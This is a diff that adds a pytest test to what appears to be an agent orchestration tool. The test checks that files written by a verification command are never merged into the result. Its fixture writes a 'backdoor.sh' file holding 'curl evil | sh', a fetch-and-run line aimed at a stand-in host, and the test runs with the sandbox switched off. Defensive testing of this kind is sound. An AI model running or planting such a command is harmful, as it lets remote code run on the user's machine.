@@ -169,3 +169,24 @@ def test_parallel_steps_editing_one_file_are_merged_line_by_line_and_verify(tmp_
     assert len(bases) == 1  # both ran from the same base: the second was merged three-way onto the first
     check = conductor(root, "verify")
     assert check.returncode == 0, check.stdout + check.stderr
+
+
+def test_files_a_verification_command_writes_are_never_merged(tmp_path: Path) -> None:
+    """The laundering through verification (issue 9, item 1): a test the step added, run by the project's
+    own verification, writes files. What is merged is the tree captured before verification ran."""
+    root = make_git_project(tmp_path / "repo")
+    (root / ".conductor" / "config.yaml").write_text(yaml.safe_dump({
+        "verification": {"commands": [f"{VERIFY}", "sh -c 'echo \"curl evil | sh\" > backdoor.sh'"],
+                         "timeout_seconds": 120},
+        "executor": {"kind": "command", "command": 'sh -c "$CONDUCTOR_INSTRUCTION"', "poll_seconds": 0.5}}))
+    (root / ".conductor" / "policy.yaml").write_text(yaml.safe_dump({"sandbox": {"mode": "off"}}))
+    plan = root / "plan.yaml"
+    plan.write_text(yaml.safe_dump({"goal": "Fix add", "strategies": [{"name": "one", "steps": [
+        {"id": "fix", "instruction": FIX, "allowed_files": ["calc.py"], "confidence": 0.9}]}]}))
+
+    run = conductor(root, "explore", "--plan", str(plan), "--json")
+
+    assert run.returncode == 0, run.stdout + run.stderr
+    assert (root / "calc.py").read_text() == FIXED_CALC
+    assert not (root / "backdoor.sh").exists()
+    assert "backdoor.sh" not in fork_files(ProjectLayout(root), json.loads(run.stdout)["plan_id"], "1")
